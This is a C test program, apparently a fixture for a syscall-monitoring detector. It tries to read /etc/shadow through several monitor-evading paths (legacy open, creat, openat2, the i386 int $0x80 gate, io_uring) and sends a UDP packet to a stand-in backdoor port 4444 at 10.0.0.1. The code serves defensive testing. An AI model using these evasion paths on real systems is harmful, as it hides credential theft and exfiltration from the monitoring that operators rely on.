/*
 * evade reads /etc/shadow (or sends to a backdoor port) by one of the ways
 * a program can hide the act from a monitor that compares the strings of
 * 64-bit system calls. The tests of judging resolved objects build it with
 * "cc -static" and run it under detect; each way must be found.
 *
 *   evade open | creat | openat2 | int80 | uring | udp
 *
 * It exits 0 whatever the kernel answered: the attempt is what is judged.
 * creat would truncate /etc/shadow, so it refuses to run as root (the
 * sandbox runs programs as nobody).
 * uring needs liburing (built with -DWITH_URING -luring).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
#ifdef WITH_URING
#include <liburing.h>
#endif

/* Static, so its address fits the 32-bit registers of int $0x80. */
static char shadow[] = "/etc/shadow";
static char buf[256];

static long int80(long nr, long a, long b, long c) {
	long ret;
	__asm__ volatile("int $0x80" : "=a"(ret) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
	return ret;
}

static void uring(void) {
#ifdef WITH_URING
	struct io_uring ring;
	if (io_uring_queue_init(8, &ring, 0) < 0) {
		return; /* refused (ENOSYS in the sandbox): the attempt is enough */
	}
	struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
	io_uring_prep_openat(sqe, AT_FDCWD, shadow, O_RDONLY, 0);
	io_uring_submit(&ring);
	struct io_uring_cqe *cqe;
	if (io_uring_wait_cqe(&ring, &cqe) == 0) {
		int fd = cqe->res;
		io_uring_cqe_seen(&ring, cqe);
		if (fd >= 0) {
			sqe = io_uring_get_sqe(&ring);
			io_uring_prep_read(sqe, fd, buf, sizeof buf, 0);
			io_uring_submit(&ring);
			if (io_uring_wait_cqe(&ring, &cqe) == 0) {
				io_uring_cqe_seen(&ring, cqe);
			}
		}
	}
	io_uring_queue_exit(&ring);
#else
	syscall(SYS_io_uring_setup, 8, buf);
#endif
}

int main(int argc, char **argv) {
	if (argc != 2) {
		fprintf(stderr, "usage: evade open|creat|openat2|int80|uring|udp\n");
		return 2;
	}
	const char *how = argv[1];
	if (strcmp(how, "open") == 0) {
		syscall(SYS_open, shadow, O_RDONLY);
	} else if (strcmp(how, "creat") == 0) {
		/* creat truncates: never as root, where it would succeed. The
		 * sandbox runs programs as nobody, where it fails. */
		if (geteuid() == 0) {
			fprintf(stderr, "evade: creat of %s refused as root\n", shadow);
			return 3;
		}
		syscall(SYS_creat, shadow, 0644);
	} else if (strcmp(how, "openat2") == 0) {
		uint64_t open_how[3] = {O_RDONLY, 0, 0};
		syscall(SYS_openat2, AT_FDCWD, shadow, open_how, sizeof open_how);
	} else if (strcmp(how, "int80") == 0) {
		long fd = int80(5, (long)shadow, O_RDONLY, 0); /* i386 open */
		if (fd >= 0) {
			int80(3, fd, (long)buf, sizeof buf); /* i386 read */
		}
	} else if (strcmp(how, "uring") == 0) {
		uring();
	} else if (strcmp(how, "udp") == 0) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(4444)};
		inet_pton(AF_INET, "10.0.0.1", &to.sin_addr);
		sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof to);
	} else {
		fprintf(stderr, "evade: unknown way %s\n", how);
		return 2;
	}
	return 0;
}
